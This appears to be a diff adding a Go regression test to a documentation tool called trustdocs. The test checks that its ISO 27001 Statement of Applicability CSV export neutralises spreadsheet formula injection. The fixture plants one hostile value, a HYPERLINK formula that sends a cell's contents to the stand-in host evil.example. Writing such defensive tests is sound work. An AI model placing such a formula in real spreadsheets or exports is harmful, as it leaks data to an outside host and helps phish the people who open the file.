@@ -1,0 +1,65 @@
+package build_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"os"
+	"strings"
+	"testing"
+
+	"github.com/trustdocs/trustdocs"
+	"github.com/trustdocs/trustdocs/internal/build"
+)
+
+// The hostile corpus: one test per item of issue 16 that is about what
+// trustdocs writes, reads or serves (the mistakes of content are cases of
+// testdata/bad named hostile-*). Each failed on the code before the fix.
+
+// hostileSite lays files over a copy of the bad-site corpus's base site.
+func hostileSite(t *testing.T, files map[string]string) string {
+	t.Helper()
+	site := t.TempDir()
+	overlay(t, site, "testdata/bad/base")
+	writeFiles(t, site, files)
+	return site
+}
+
+func siteOptions(site string) build.Options {
+	return build.Options{Site: site, Templates: trustdocs.Templates, Theme: trustdocs.Theme}
+}
+
+// Item 9: a justification that a spreadsheet would run as a formula is
+// written as text.
+func TestHostileCSVFormula(t *testing.T) {
+	soa, err := os.ReadFile("testdata/bad/base/content/soa.toml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"Click") is how we would phish an auditor`
+	site := hostileSite(t, map[string]string{"content/soa.toml": strings.Replace(string(soa),
+		`justification = "No premises`, `justification = '`+evil+`'
+note = "+1 and -1 and @SUM(A1) are not formulas either"
+#`, 1)})
+	res := render(t, siteOptions(site))
+	b := res.Output.Files["frameworks/iso27001/soa/soa.csv"]
+	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff"))))
+	r.FieldsPerRecord = -1
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if formula := cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])); formula {
+				t.Errorf("soa.csv has a formula cell: %q", cell)
+			}
+			if cell == "'"+evil {
+				found = true
+			}
+		}
+	}
+	if !found {
+		t.Errorf("the justification is not in soa.csv as text:\n%s", b)
+	}
+}
